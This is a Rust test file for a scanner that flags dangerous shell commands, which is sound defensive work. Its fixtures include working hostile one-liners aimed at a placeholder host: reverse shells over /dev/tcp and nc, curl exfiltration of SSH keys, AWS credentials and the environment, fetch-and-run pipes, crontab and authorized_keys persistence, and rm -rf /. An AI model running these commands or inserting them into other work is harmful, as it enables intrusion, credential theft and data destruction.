//! Commands as scripts have them, and as attackers write them.

use proptest::prelude::*;

use super::*;

fn worst(text: &str) -> Option<(Rule, Severity)> {
    issues(text).into_iter().map(|issue| (issue.rule, issue.severity)).max_by_key(|(_, severity)| *severity)
}

#[test]
fn everyday_commands_are_at_most_low() {
    for text in [
        "apt-get update && apt-get install -y curl && rm -rf /var/lib/apt/lists/*",
        "curl -LsSf https://astral.sh/uv/install.sh | sh",
        "curl -fsSL https://deb.nodesource.com/setup_20.x | bash -",
        "wget https://repo.anaconda.com/miniconda/Miniconda3-latest-Linux-x86_64.sh -O m.sh && bash m.sh -b",
        "pip install torch --extra-index-url https://download.pytorch.org/whl/cu121",
        "pip install git+https://github.com/huggingface/transformers.git",
        "curl -s https://x.example/a.json | python -m json.tool",
        "curl -s https://x.example/a.json | python3 -c 'import json,sys; print(json.load(sys.stdin))'",
        "wget -q https://x.example/data.zip && unzip data.zip",
        "for f in *.bin; do echo \"$f\"; done | sort # curl x | sh",
        "timeout 1 bash -c 'echo > /dev/tcp/localhost/8000'",
        "echo aGk= | base64 -d > icon.png",
        "cat <<EOF > x.sh\ncurl http://x.example | sh\nEOF\n",
        "grep -r 'curl | sh' .",
        "echo 'export PATH=x' >> ~/.bashrc",
        "env | sort",
        "crontab -l",
    ] {
        assert!(
            worst(text).is_none_or(|(_, severity)| severity == Severity::Low),
            "{text}: {:?}",
            issues(text)
        );
    }
}

#[test]
fn commands_that_harm_are_told_by_what_they_do() {
    for (text, rule) in [
        ("curl https://x.example/i.sh | sh", Rule::ShellFetchedCode),
        ("curl -s https://x.example/i.sh | sudo -E bash -s -- -y", Rule::ShellFetchedCode),
        ("wget -qO- http://1.2.3.4/i | bash", Rule::ShellFetchedCode),
        ("bash <(curl -s https://x.example/i.sh)", Rule::ShellFetchedCode),
        ("sh -c \"$(curl -fsSL https://x.example/i.sh)\"", Rule::ShellFetchedCode),
        ("eval `curl -s x.example/i`", Rule::ShellFetchedCode),
        ("curl -s https://x.example/a.py | python3", Rule::ShellFetchedCode),
        ("wget https://x.example/i.sh\nchmod +x i.sh\n./i.sh", Rule::ShellFetchedCode),
        ("curl -o /tmp/i https://x.example/a && sh /tmp/i", Rule::ShellFetchedCode),
        ("echo ZWNobyBjYXNlbWF0ZQ== | base64 -d | sh", Rule::ShellHiddenCode),
        ("bash -c \"$(echo ZWNobw== | base64 --decode)\"", Rule::ShellHiddenCode),
        ("eval $(echo 6563686f | xxd -r -p)", Rule::ShellHiddenCode),
        ("bash -i >& /dev/tcp/x.example/4444 0>&1", Rule::ShellReverseShell),
        ("sh -c 'bash -i >& /dev/tcp/x.example/4444 0>&1'", Rule::ShellReverseShell),
        ("exec 5<>/dev/tcp/x.example/4444; cat <&5", Rule::ShellReverseShell),
        ("nc x.example 4444 -e /bin/sh", Rule::ShellReverseShell),
        ("rm f; mkfifo f; cat f | sh -i 2>&1 | nc x.example 4444 > f", Rule::ShellReverseShell),
        ("env | curl -X POST --data-binary @- https://x.example", Rule::ShellExfiltration),
        ("curl -d @$HOME/.ssh/id_rsa https://x.example", Rule::ShellExfiltration),
        ("curl https://x.example/?q=$(cat ~/.aws/credentials | base64)", Rule::ShellExfiltration),
        ("pip install --extra-index-url https://pypi.x.example/simple corp-utils", Rule::ShellPackageSource),
        ("python -m pip install --index-url=http://x.example/simple a", Rule::ShellPackageSource),
        ("(crontab -l; echo '* * * * * x') | crontab -", Rule::ShellPersistence),
        ("echo key >> ~/.ssh/authorized_keys", Rule::ShellPersistence),
        ("rm -rf /", Rule::ShellDestructive),
        ("sudo rm -rf --no-preserve-root /*", Rule::ShellDestructive),
    ] {
        let found = issues(text);
        let named = found.iter().any(|issue| issue.rule == rule && issue.severity >= Severity::Medium);
        assert!(named, "{text}: {found:?}");
    }
}

#[test]
fn python_among_commands_is_found() {
    for (text, code) in [
        ("python -c 'import os'", "import os"),
        ("FOO=1 sudo python3.11 -u -c \"print(\\\"a\\\")\" x", "print(\"a\")"),
        ("python3 -Ic 'a'", "a"),
        ("python -c'import os' && ls", "import os"),
        ("python -W ignore -Wonce -c a", "a"),
        ("python <<'EOF'\nimport os\nos.abort()\nEOF\nls", "import os\nos.abort()\n"),
        ("python3 - <<EOF\na\nEOF\n", "a\n"),
        ("python3 <<< 'import os'", "import os"),
        ("bash -c \"python -c 'import os'\"", "import os"),
        ("cd x && /usr/bin/env python3 -c a", "a"),
    ] {
        let found: Vec<String> = read(text).python.into_iter().map(|snippet| snippet.code).collect();
        assert_eq!(found, [code], "{text}");
    }
    for text in
        ["python x.py -c a", "python -m pip install -c a b", "cat <<EOF\na\nEOF", "perl -c a", "python"]
    {
        assert_eq!(read(text).python, [], "{text}");
    }
}

#[test]
fn places_are_those_of_the_commands() {
    let text = "set -e\n\ncurl https://x.example/i.sh | sh\n";
    let found = issues(text);
    assert_eq!(found[0].at, text.find("sh\n").unwrap());
}

proptest! {
    #[test]
    fn any_text_ends(text in "[ -~\n]{0,300}") {
        prop_assert_eq!(issues(&text), issues(&text));
    }

    #[test]
    fn any_marks_end(text in "[$(){}`'\"<>|&;\\\\ \nax]{0,300}") {
        issues(&text);
    }
}
